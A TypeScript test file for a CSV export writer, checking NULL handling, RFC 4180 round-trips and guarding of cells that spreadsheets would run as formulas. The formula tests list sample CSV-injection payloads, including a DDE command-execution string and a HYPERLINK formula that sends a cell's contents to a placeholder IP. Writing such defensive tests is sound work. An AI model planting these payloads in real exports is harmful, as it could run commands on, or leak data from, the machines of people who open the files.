/**
 * How an answer in CSV is written. The exact cell of every kind is in `test/golden/csv-values.txt`, of what a
 * spreadsheet would run in `test/golden/csv-formulas.txt`. That Postgres and DuckDB read the same values back is
 * checked in `test/postgres/retrieve-formats.test.ts`.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvWriter } from "../../../src/retrieve/formats/csv.ts";
import { type Column, VALUE_KINDS } from "../../../src/rows/column.ts";
import {
  bytes,
  column,
  type Field,
  FIELDS,
  float8,
  hex,
  int8,
  numeric,
  textOf,
  utf8,
} from "./value-fields.ts";

const END = "\r\n";

/** The line of a row with these fields, without its end. */
function lineOf(columns: readonly Column[], fields: readonly Field[], raw = false): string {
  const line = textOf(csvWriter(columns, { raw }), [fields]);
  expect(line.endsWith(END)).toBe(true);
  return line.slice(0, -END.length);
}

/** Records of a file by RFC 4180, with a NULL for an empty cell without quotes. */
function parse(file: string): (string | null)[][] {
  const records: (string | null)[][] = [];
  let record: (string | null)[] = [];
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let cell: RegExpExecArray | null;
  let end = 0;
  while ((cell = cells.exec(file)) !== null) {
    end = cells.lastIndex;
    record.push(cell[1]?.replaceAll('""', '"') ?? (cell[2] === "" ? null : (cell[2] as string)));
    if (cell[3] === END) {
      records.push(record);
      record = [];
    }
  }
  expect(file.slice(end)).toBe("");
  return records;
}

describe("a CSV value", () => {
  it("of every kind is printed as written down", async () => {
    const sections = VALUE_KINDS.map((kind) => {
      const lines = FIELDS[kind].map(
        (value) => `${hex(value)}  ${JSON.stringify(lineOf([column("c", kind)], [value]))}`,
      );
      return `## ${kind}\n${lines.join("\n")}\n`;
    });
    await expect(sections.join("\n")).toMatchFileSnapshot("../../golden/csv-values.txt");
  });

  it("that is NULL is an empty cell, and an empty text is two quotes", () => {
    const columns = [column("a", "text"), column("b", "text"), column("c", "int8"), column("d", "jsonb")];
    expect(lineOf(columns, [null, utf8(""), null, bytes(1, ...utf8('""'))])).toBe(',"",,""""""');
  });

  it("that would end the data of a COPY, alone in its line, is quoted", () => {
    expect(lineOf([column("c", "text")], [utf8("\\.")])).toBe('"\\."');
  });

  it("of any text is read back as that text in raw mode, and as NULL only if it is NULL", () => {
    const text = fc.option(
      fc.oneof(fc.string({ unit: "binary" }), fc.stringMatching(/^[=+\-@'",\r\n\t \\.a]{0,5}$/)),
      { nil: null },
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { maxLength: 5 }), (rows) => {
        const writer = csvWriter([column("a", "text"), column("b", "text")], { raw: true });
        let file = writer.header() as string;
        file += textOf(
          writer,
          rows.map((row) => row.map((one) => (one === null ? null : utf8(one)))),
        );
        expect(parse(file)).toEqual([["a", "b"], ...rows]);
      }),
    );
  });
});

describe("a cell that a spreadsheet would run", () => {
  const TEXTS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"total")',
    "+1",
    "-1",
    "-5",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    // What is harmless stays as it is.
    "a=1",
    " =1",
    "'=1",
    '"=1"',
    "1-1",
    "–1",
    "",
  ];

  it("is as written down, guarded and raw", async () => {
    const lines = TEXTS.map((text) => {
      const cells = [false, true].map((raw) => lineOf([column("c", "text")], [utf8(text)], raw));
      return `${JSON.stringify(text)}\n  guarded  ${JSON.stringify(cells[0])}\n  raw      ${JSON.stringify(cells[1])}\n`;
    });
    await expect(lines.join("")).toMatchFileSnapshot("../../golden/csv-formulas.txt");
  });

  it("never begins with what starts a formula, whatever the text", () => {
    const start = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "");
    fc.assert(
      fc.property(
        start,
        fc.string({ unit: "binary" }),
        fc.constantFrom("text" as const, "json" as const),
        (first, rest, kind) => {
          const [[cell]] = parse(lineOf([column("c", kind)], [utf8(first + rest)]) + END) as [[string]];
          expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
          expect([first + rest, `'${first + rest}`]).toContain(cell);
        },
      ),
    );
  });

  it("may be a column's name", () => {
    const columns = [column("=1+1", "int8"), column('@a,"b"', "text"), column("plain", "text")];
    expect(csvWriter(columns, { raw: false }).header()).toBe(`'=1+1,"'@a,""b""",plain${END}`);
    expect(csvWriter(columns, { raw: true }).header()).toBe(`=1+1,"@a,""b""",plain${END}`);
  });

  it("is no number: -5 in a column of numbers stays -5", () => {
    const columns = [
      column("i", "int8"),
      column("d", "decimal"),
      column("n", "numeric"),
      column("f", "float8"),
    ];
    const fields = [int8(-5n), numeric("-5.50"), numeric("-0.000000001"), float8(-1e300)];
    expect(lineOf(columns, fields)).toBe("-5,-5.50,-0.000000001,-1e+300");
  });
});

describe("a CSV row", () => {
  it("shows the text of an interval instead of its bytes, once, in the column's place", () => {
    const columns = [
      column("id", "int8"),
      column("took", "binary"),
      column("took__text", "text", { attribute: "took", select: "text" }),
      column("last", "bool"),
    ];
    expect(csvWriter(columns, { raw: false }).header()).toBe(`id,took,last${END}`);
    expect(lineOf(columns, [int8(1n), bytes(9), utf8("-1 days"), bytes(0)])).toBe("1,'-1 days,false");
    expect(lineOf(columns, [int8(1n), bytes(9), utf8("-1 days"), bytes(0)], true)).toBe("1,-1 days,false");
  });
});
